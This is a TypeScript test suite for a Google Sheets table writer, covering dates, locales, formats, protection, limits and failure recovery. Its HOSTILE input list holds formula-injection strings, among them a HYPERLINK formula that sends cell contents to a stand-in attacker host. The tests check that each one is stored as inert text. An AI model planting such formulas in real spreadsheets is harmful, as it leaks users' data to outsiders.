/** What the writer does to a spreadsheet beside values: formats, notes, days in every zone, protection, limits, calls, failures. */
import type { Rectangle } from '../../src/core/a1';
import type { Column, Table } from '../../src/core/table';
import type { CellContent } from '../../workbench/apps-script/host';
import { type GoogleWorld, googleWorld } from '../contracts/google-world';
import { cellsOfTable, HERE, NEW_DATA, tableOf, writeTable } from '../contracts/report-destination';

const COLUMNS: readonly Column[] = [
  { name: 'date', title: 'Date', kind: 'day', role: 'dimension' },
  { name: 'app', title: 'App name', kind: 'text', role: 'dimension' },
  { name: 'impressions', title: 'Impressions', kind: 'integer', role: 'metric' },
  { name: 'ctr', title: 'CTR', kind: 'ratio', role: 'metric' },
  { name: 'revenue', title: 'Revenue', kind: 'money', role: 'metric' },
];
const typed = (...rows: Table['rows'][number][]): Table => ({ columns: COLUMNS, rows });
const line = (i: number) => ['2026-11-19', `App ${i}`, i, i / 100, i / 4];
const lines = (count: number) => typed(...Array.from({ length: count }, (_, i) => line(i)));

/** Whole cells of the first 40 rows and 15 columns that lie outside `block`. */
function cellsBeside(world: GoogleWorld, sheet: string, block: Rectangle): CellContent[] {
  const cells = world.workbook.cells(world.sheetData(sheet).id, { row: 1, column: 1, rows: 40, columns: 15 });
  return cells.flatMap((values, r) =>
    values.filter(
      (_cell, c) =>
        r + 1 < block.row ||
        r + 1 >= block.row + block.rows ||
        c + 1 < block.column ||
        c + 1 >= block.column + block.columns,
    ),
  );
}
const cell = (world: GoogleWorld, row: number, column: number, sheet = 'Data') =>
  world.workbook.cell(world.sheetData(sheet).id, row, column);

describe('days and numbers', () => {
  const ZONES = ['America/Los_Angeles', 'Asia/Tokyo', 'Pacific/Apia', 'Etc/UTC'];
  const DAYS = ['2026-11-19', '2024-02-29', '2026-03-08', '2026-11-01', '2011-12-30', '1999-12-31'];
  test.each(ZONES.flatMap((timeZone) => ['en_US', 'de_DE'].map((locale) => ({ timeZone, locale }))))(
    'stay what they are in $timeZone, $locale',
    (place) => {
      const world = googleWorld(place);
      const rows = DAYS.map((day, i) => [day, 'x', 1_234_560 + i, 0.01234, 1234.5]);
      writeTable(world, typed(...rows), NEW_DATA);
      world.act(() => {
        const range = SpreadsheetApp.getActive().getSheetByName('Data')?.getRange('A2:E7');
        if (!range) throw new Error('no range');
        const isGerman = place.locale === 'de_DE';
        expect(range.getDisplayValues()).toEqual(
          DAYS.map((day, i) => [
            day,
            'x',
            isGerman ? `1.234.56${i}` : `1,234,56${i}`,
            isGerman ? '1,23%' : '1.23%',
            isGerman ? '$1.234,50' : '$1,234.50',
          ]),
        );
        const values = range.getValues();
        values.forEach(([date, , ...numbers], i) => {
          expect(date).toBeInstanceOf(Date);
          // 2011-12-30 never was on the clocks of Apia, and is a day like any other in a cell.
          if (place.timeZone !== 'Pacific/Apia' || DAYS[i] !== '2011-12-30')
            expect(Utilities.formatDate(date, place.timeZone, 'yyyy-MM-dd HH:mm')).toBe(`${DAYS[i]} 00:00`);
          expect(numbers).toEqual([1_234_560 + i, 0.01234, 1234.5]);
        });
      });
      // 2026-11-19 is day 46345 and 2024-02-29 is 995 days before: 263 days to 19 Nov 2024, and two years.
      expect([cell(world, 2, 1).value, cell(world, 3, 1).value]).toEqual([46_345, 46_345 - 264 - 730]);
    },
  );

  test('numbers are exact', () => {
    const numbers = [0.1 + 0.2, 1e-7, 12_345_678.905, 5e-324, Number.MAX_SAFE_INTEGER, 0];
    const world = googleWorld({ timeZone: 'Etc/UTC', locale: 'de_DE' });
    writeTable(world, typed(...numbers.map((value) => ['2026-11-19', 'x', 1, value, value])), NEW_DATA);
    numbers.forEach((value, i) => {
      expect([cell(world, i + 2, 4).value, cell(world, i + 2, 5).value]).toEqual([value, value]);
    });
  });
});

describe('text', () => {
  const HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    '=1+1',
    '=',
    '+1',
    '+SUM(A1)',
    '-1',
    '-',
    '@SUM(A1)',
    "'quoted'",
    "''",
    '00123',
    'May 5',
    '5.5.2026',
    '2026-11-19',
    '11:30',
    'TRUE',
    'false',
    '1e5',
    '1400000001',
    '1,5',
    '1.5',
    '10%',
    '$5',
    '€ 5',
    ' =1',
    '\t=1',
    '\n=1',
    '#REF!',
    '1/2',
    '(5)',
    '😀',
    'x'.repeat(50_000),
  ];
  test.each(['en_US', 'de_DE'])('reads back exactly, as text and with no formula, in %s', (locale) => {
    const world = googleWorld({ timeZone: 'Etc/UTC', locale });
    const table = typed(...HOSTILE.map((name, i) => ['2026-11-19', name, i, 0, 0]));
    // The second write finds the cells as the first has left them.
    for (const _time of [1, 2]) {
      writeTable(world, table, NEW_DATA);
      world.act(() => {
        const range = SpreadsheetApp.getActive().getSheetByName('Data')?.getRange(2, 2, HOSTILE.length, 1);
        expect(range?.getValues()).toEqual(HOSTILE.map((text) => [text]));
        expect(range?.getDisplayValues()).toEqual(HOSTILE.map((text) => [text]));
        expect(range?.getFormulas()).toEqual(HOSTILE.map(() => ['']));
      });
    }
  });

  test('stays text where the user has set another format since', () => {
    const world = googleWorld();
    writeTable(world, typed(['2026-11-19', '00123', 1, 1, 1]), NEW_DATA);
    world.workbook.setStyle(
      world.sheetData('Data').id,
      { row: 2, column: 2, rows: 1, columns: 1 },
      { format: '0.00' },
    );
    writeTable(world, typed(['2026-11-19', '00123', 1, 1, 1], ['2026-11-19', '1e5', 1, 1, 1]), NEW_DATA);
    expect([cell(world, 2, 2).value, cell(world, 3, 2).value]).toEqual(['00123', '1e5']);
  });
});

describe('looks', () => {
  test('a new block: formats by kind, header bold and frozen with a note, columns sized', () => {
    const world = googleWorld();
    writeTable(world, lines(3), NEW_DATA);
    for (const row of [2, 3, 4])
      expect([1, 2, 3, 4, 5].map((column) => cell(world, row, column).format)).toEqual([
        'yyyy-mm-dd',
        '@',
        '#,##0',
        '0.00%',
        '"$"#,##0.00',
      ]);
    expect([1, 5].map((column) => cell(world, 1, column).bold)).toEqual([true, true]);
    expect(cell(world, 1, 1).note).toBe('A note.');
    expect(world.sheetData('Data').frozenRows).toBe(1);
    expect(world.act(() => null) ?? world.lastExecution().context.calls).toEqual([]);
  });

  test('what the user has set is kept as long as the columns are the same, and new rows look like the first', () => {
    const world = googleWorld();
    writeTable(world, lines(3), NEW_DATA);
    const sheetId = world.sheetData('Data').id;
    const column = (at: number) => ({ row: 2, column: at, rows: 3, columns: 1 });
    world.workbook.setStyle(sheetId, column(1), { format: 'dd/mm/yyyy' });
    world.workbook.setStyle(sheetId, column(5), { format: '0.0000', background: '#00ff00' });
    world.workbook.setStyle(sheetId, { row: 1, column: 1, rows: 1, columns: 5 }, { background: '#0000ff' });
    world.workbook.setFrozenRows(sheetId, 2);
    world.workbook.setColumnWidth(sheetId, 2, 333);
    writeTable(world, lines(5), NEW_DATA);
    for (const row of [2, 4, 6]) {
      expect(cell(world, row, 1).format).toBe('dd/mm/yyyy');
      expect(cell(world, row, 5)).toMatchObject({ format: '0.0000', background: '#00ff00' });
    }
    expect(cell(world, 1, 3)).toMatchObject({ background: '#0000ff', bold: true });
    expect(world.sheetData('Data')).toMatchObject({ frozenRows: 2 });
    expect(world.sheetData('Data').columnWidth(2)).toBe(333);
  });

  test('other columns are made anew, without a trace of the old ones', () => {
    const world = googleWorld();
    writeTable(world, { ...lines(4), totals: ['Total', null, 6, 0.1, 1] }, NEW_DATA);
    const columns = [COLUMNS[1], COLUMNS[4]].flatMap((column) => column ?? []);
    writeTable(
      world,
      {
        columns,
        rows: [
          ['a', 1],
          ['b', 2],
          ['c', 3],
          ['d', 4],
          ['e', 5],
        ],
      },
      NEW_DATA,
    );
    for (const row of [2, 4, 6]) {
      expect(cell(world, row, 1)).toMatchObject({ format: '@' });
      expect(cell(world, row, 2)).toMatchObject({ format: '"$"#,##0.00' });
      expect([cell(world, row, 1).bold, cell(world, row, 2).bold]).toEqual([undefined, undefined]);
    }
    expect(cell(world, 1, 3)).toEqual({ value: null });
    expect(cell(world, 3, 4)).toEqual({ value: null });
  });

  test.each([
    [3, 6],
    [6, 3],
    [3, 3],
    [3, 4],
    [4, 3],
  ])('the bold row of totals moves when %d rows become %d', (before, after) => {
    const world = googleWorld();
    const withTotals = (count: number) => ({ ...lines(count), totals: ['Total', null, 6, 0.1, 1] });
    writeTable(world, withTotals(before), NEW_DATA);
    writeTable(world, withTotals(after), NEW_DATA);
    const bold = Array.from({ length: 12 }, (_, i) => cell(world, i + 1, 3).bold === true);
    expect(bold).toEqual(bold.map((_, i) => i === 0 || i === after + 1));
    writeTable(world, lines(after + 1), NEW_DATA);
    expect(cell(world, after + 2, 3).bold).toBeUndefined();
  });

  test('cells that stand out move with their rows, and other colours of the user stay', () => {
    const world = googleWorld();
    const statuses = (...rows: string[]): Table => ({
      columns: [COLUMNS[1], COLUMNS[2]].flatMap((column) => column ?? []),
      rows: rows.map((status, i) => [status, i]),
      highlights: { column: 0, rows: rows.flatMap((status, i) => (status === 'update' ? [i] : [])) },
    });
    writeTable(world, statuses('update', 'current', 'update'), NEW_DATA);
    const backgrounds = (column: number) =>
      [2, 3, 4].map((row) => cell(world, row, column).background !== undefined);
    expect(backgrounds(1)).toEqual([true, false, true]);
    world.workbook.setStyle(
      world.sheetData('Data').id,
      { row: 3, column: 2, rows: 1, columns: 1 },
      { background: '#00ff00' },
    );
    writeTable(world, statuses('current', 'update', 'current'), NEW_DATA);
    expect([backgrounds(1), backgrounds(2)]).toEqual([
      [false, true, false],
      [false, true, false],
    ]);
    writeTable(world, statuses('current', 'current', 'current'), NEW_DATA);
    expect(backgrounds(1)).toEqual([false, false, false]);
  });

  test('rows inserted for a new block do not take over the looks of the rows around', () => {
    const world = googleWorld();
    world.put('Sheet1', 1, 1, 'mine');
    world.workbook.setStyle(
      world.sheetData('Sheet1').id,
      { row: 1, column: 1, rows: 1, columns: 5 },
      { background: '#ff0000', italic: true },
    );
    world.select('Sheet1', 1, 1);
    writeTable(world, lines(2), HERE, true);
    expect(cell(world, 2, 3, 'Sheet1')).toEqual({ value: 0, format: '#,##0' });
    expect(cell(world, 4, 1, 'Sheet1')).toMatchObject({ value: 'mine', background: '#ff0000', italic: true });
  });
});

describe('what is not the block’s', () => {
  test('cells, notes, formulas and formats beside and below are unchanged, to the last member', () => {
    const world = googleWorld();
    writeTable(world, lines(4), NEW_DATA);
    const { id } = world.sheetData('Data');
    world.workbook.setCells(id, 2, 6, [
      [
        { value: 12, formula: '=E2*2', format: '0.0', background: '#123456' },
        { value: 'text', note: 'a note', bold: true },
      ],
      [{ value: true }, { value: 46_345, format: 'yyyy-mm-dd' }],
    ]);
    world.workbook.setCells(id, 20, 1, [[{ value: 'below', italic: true, note: 'mine' }]]);
    const other = JSON.stringify(
      world.workbook.cells(world.sheetData('Sheet1').id, { row: 1, column: 1, rows: 9, columns: 9 }),
    );
    const block = { row: 1, column: 1, rows: 9, columns: 5 };
    const before = cellsBeside(world, 'Data', block);
    writeTable(world, lines(8), NEW_DATA);
    writeTable(world, lines(2), NEW_DATA);
    writeTable(world, lines(7), NEW_DATA);
    expect(cellsBeside(world, 'Data', block)).toEqual(before);
    expect(
      JSON.stringify(
        world.workbook.cells(world.sheetData('Sheet1').id, { row: 1, column: 1, rows: 9, columns: 9 }),
      ),
    ).toBe(other);
  });

  test('a formula that shows nothing, and an unticked box, are in the way', () => {
    const world = googleWorld();
    writeTable(world, lines(1), NEW_DATA);
    const { id } = world.sheetData('Data');
    world.workbook.setCells(id, 4, 2, [[{ value: '', formula: '=IF(1=2,1,"")' }, { value: false }]]);
    expect(() => writeTable(world, lines(5), NEW_DATA)).toThrow(
      expect.objectContaining({
        details: { sheetName: 'Data', cells: 2, range: 'B4:C4', offer: 'insertRows' },
      }),
    );
    expect(cell(world, 4, 2).formula).toBe('=IF(1=2,1,"")');
  });

  test('a block whose cells the user has deleted is written anew', () => {
    const world = googleWorld();
    writeTable(world, tableOf(3, 'old'), NEW_DATA);
    world.workbook.deleteRows(world.sheetData('Data').id, 1, 4);
    writeTable(world, tableOf(2, 'new'), NEW_DATA);
    expect(world.contents('Data')).toEqual(cellsOfTable(tableOf(2, 'new')));
  });
});

describe('protection', () => {
  /** A spreadsheet whose owner has protected a range, and an editor who writes. */
  function protectedWorld(rows: number, range: Rectangle | null) {
    const world = googleWorld({ timeZone: 'Etc/UTC', locale: 'en_US' }, 'editor@example.com');
    writeTable(world, lines(rows), NEW_DATA);
    world.workbook.protections.push({
      id: 99,
      sheetId: world.sheetData('Data').id,
      range,
      rangeName: null,
      description: '',
      warningOnly: false,
      editors: [],
      unprotected: [],
    });
    return world;
  }
  test.each<[string, Rectangle | null, number, number]>([
    ['the whole sheet', null, 3, 5],
    ['a cell of the block', { row: 2, column: 2, rows: 1, columns: 1 }, 3, 5],
    ['a row that would be covered', { row: 6, column: 1, rows: 1, columns: 1 }, 3, 5],
    ['a row that would be cleared', { row: 6, column: 1, rows: 1, columns: 1 }, 5, 3],
  ])('%s: refused before anything is touched', (_title, range, before, after) => {
    const world = protectedWorld(before, range);
    const { revision } = world.workbook;
    expect(() => writeTable(world, lines(after), NEW_DATA)).toThrow(
      expect.objectContaining({
        code: 'SHEET_PROTECTED',
        details: expect.objectContaining({ sheetName: 'Data' }),
      }),
    );
    expect(world.workbook.revision).toBe(revision);
  });

  test('cells far from the block may be protected', () => {
    const world = protectedWorld(3, { row: 40, column: 1, rows: 1, columns: 9 });
    expect(writeTable(world, lines(5), NEW_DATA).range).toBe('A1:E6');
  });
});

test('ten million cells: refused before anything is touched', () => {
  const world = googleWorld();
  writeTable(world, lines(1), NEW_DATA);
  // 26,000 + 26,000 cells are there; this brings it to 9,999,000.
  world.addSheet('Big', { gridRows: 9_947, gridColumns: 1_000 });
  const { revision } = world.workbook;
  expect(() => writeTable(world, lines(1_050), NEW_DATA)).toThrow(
    expect.objectContaining({
      code: 'WORKBOOK_FULL',
      details: { wanted: 51 * 26, present: 9_999_000, limit: 10_000_000 },
    }),
  );
  expect(() => writeTable(world, lines(1), { kind: 'newSheet', sheetName: 'More' })).toThrow(
    expect.objectContaining({
      code: 'WORKBOOK_FULL',
      details: { wanted: 26_000, present: 9_999_000, limit: 10_000_000 },
    }),
  );
  expect(world.workbook.revision).toBe(revision);
});

describe('calls', () => {
  /** Handles and where they stand: the script holds them, and nothing of the spreadsheet is read or changed. */
  const HANDLES =
    /\.?(getActive|getRange|getRangeList|getSheet|getSheetId|getSheetById|getRangeByName|getRow|getColumn|getNumRows|getNumColumns)$/;
  const roundTrips = (world: GoogleWorld) =>
    world
      .lastExecution()
      .context.calls.filter(({ service, method }) => service === 'SpreadsheetApp' && !HANDLES.test(method));
  const wide: readonly Column[] = Array.from({ length: 12 }, (_, i) => ({
    name: `c${i}`,
    title: `Column ${i}`,
    kind: i < 4 ? 'text' : 'money',
    role: i < 4 ? 'dimension' : 'metric',
  }));
  const big = (count: number, mark: string): Table => ({
    columns: wide,
    rows: Array.from({ length: count }, (_, r) => wide.map((_column, c) => (c < 4 ? `${mark}${r}` : r * c))),
    totals: wide.map((_column, c) => (c === 0 ? 'Total' : c < 4 ? null : 1)),
  });

  test.each([
    ['a first write', [100_000]],
    ['a renewal that grows', [10, 100_000]],
    ['a renewal that shrinks', [100_000, 60_000]],
  ])('100,000 rows of 12 columns, %s: at most 6 per 20,000 rows and 12', (_title, sizes) => {
    const world = googleWorld();
    sizes.forEach((count, i) => {
      const { onRows } = writeTable(world, big(count, String(i)), NEW_DATA);
      const trips = roundTrips(world);
      const spreadsheetCalls = world
        .lastExecution()
        .context.calls.filter(({ service }) => service === 'SpreadsheetApp');
      const allowed = Math.ceil(count / 20_000) * 6 + 12;
      expect(trips.length).toBeLessThanOrEqual(allowed);
      // With every handle it is no more than three times the constant.
      expect(spreadsheetCalls.length).toBeLessThanOrEqual(allowed + 2 * 12);
      // Header, rows and totals in blocks of 20,000.
      expect(trips.filter(({ method }) => method === 'Range.setValues')).toHaveLength(
        Math.ceil((count + 2) / 20_000),
      );
      expect(onRows[onRows.length - 1]).toBe(count + 1);
    });
    const last = sizes[sizes.length - 1] ?? 0;
    expect(cell(world, last + 1, 1).value).toBe(`${sizes.length - 1}${last - 1}`);
    expect(cell(world, last + 2, 1).value).toBe('Total');
    expect(cell(world, last + 3, 1)).toEqual({ value: null });
  });
});

describe('failures on the way', () => {
  const values = (world: GoogleWorld) => world.contents('Data');
  test.each([
    ['growing', 3, 8, 3],
    ['shrinking', 8, 3, 3],
    ['narrower', 5, 5, 2],
    ['made wider and longer', 5, 9, 3],
  ])(
    '%s: old cells are whole until the first value, and the next write repairs whatever was left',
    (_title, before, after, columns) => {
      let failed = 0;
      for (let nth = 1; ; nth++) {
        const world = googleWorld();
        const first = tableOf(before, 'old', _title === 'made wider and longer' ? 2 : 3);
        const next = tableOf(after, 'new', columns);
        writeTable(world, first, NEW_DATA);
        world.put('Data', 30, 9, 'mine');
        world.state.faults = [
          { call: 'SpreadsheetApp', nth, do: { message: 'Service error: Spreadsheets' } },
        ];
        let error: unknown = null;
        try {
          writeTable(world, next, NEW_DATA);
        } catch (thrown) {
          error = thrown;
        }
        if (error === null) break;
        failed++;
        const { calls } = world.lastExecution().context;
        if (!calls.some(({ method }) => method === 'Range.setValues'))
          expect(values(world)).toEqual({ ...cellsOfTable(first), I30: 'mine' });
        world.state.faults = [];
        writeTable(world, next, NEW_DATA);
        expect(values(world)).toEqual({ ...cellsOfTable(next), I30: 'mine' });
      }
      expect(failed).toBeGreaterThan(15);
    },
  );

  test('a first write that stops at any call can be repeated', () => {
    for (let nth = 1; ; nth++) {
      const world = googleWorld();
      world.state.faults = [{ call: 'SpreadsheetApp', nth, do: { message: 'Service error: Spreadsheets' } }];
      let isDone = true;
      try {
        writeTable(world, tableOf(4, 'new'), NEW_DATA);
      } catch {
        isDone = false;
      }
      if (isDone) break;
      world.state.faults = [];
      writeTable(world, tableOf(4, 'new'), NEW_DATA);
      expect(values(world)).toEqual(cellsOfTable(tableOf(4, 'new')));
    }
  });

  test.each<[string, string, Record<string, unknown>]>([
    ['Range.setValues', 'You are trying to edit a protected cell or object.', { code: 'SHEET_PROTECTED' }],
    [
      'Range.setValues',
      'Service error: Spreadsheets',
      {
        code: 'WRITE_FAILED',
        details: { place: 'sheet “Data”', reason: expect.stringContaining('Service error: Spreadsheets') },
      },
    ],
    ['SpreadsheetApp.flush', 'Service timed out', { code: 'WRITE_FAILED' }],
  ])('%s fails with “%s”', (call, message, expected) => {
    const world = googleWorld();
    world.state.faults = [
      { call: call.startsWith('Range') ? `SpreadsheetApp.${call}` : call, nth: 1, do: { message } },
    ];
    expect(() => writeTable(world, lines(2), NEW_DATA)).toThrow(expect.objectContaining(expected));
  });
});
